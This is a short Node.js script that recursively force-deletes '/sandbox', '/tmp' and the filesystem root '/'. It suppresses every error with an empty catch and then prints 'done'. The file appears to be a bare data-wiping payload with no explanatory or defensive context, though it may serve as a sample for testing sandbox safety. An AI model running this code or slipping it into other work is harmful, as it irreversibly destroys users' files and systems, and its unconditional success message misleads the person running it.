const fs = require("fs");
for (const path of ["/sandbox", "/tmp", "/"]) {
  try { fs.rmSync(path, { recursive: true, force: true }); } catch {}
}
console.log("done");
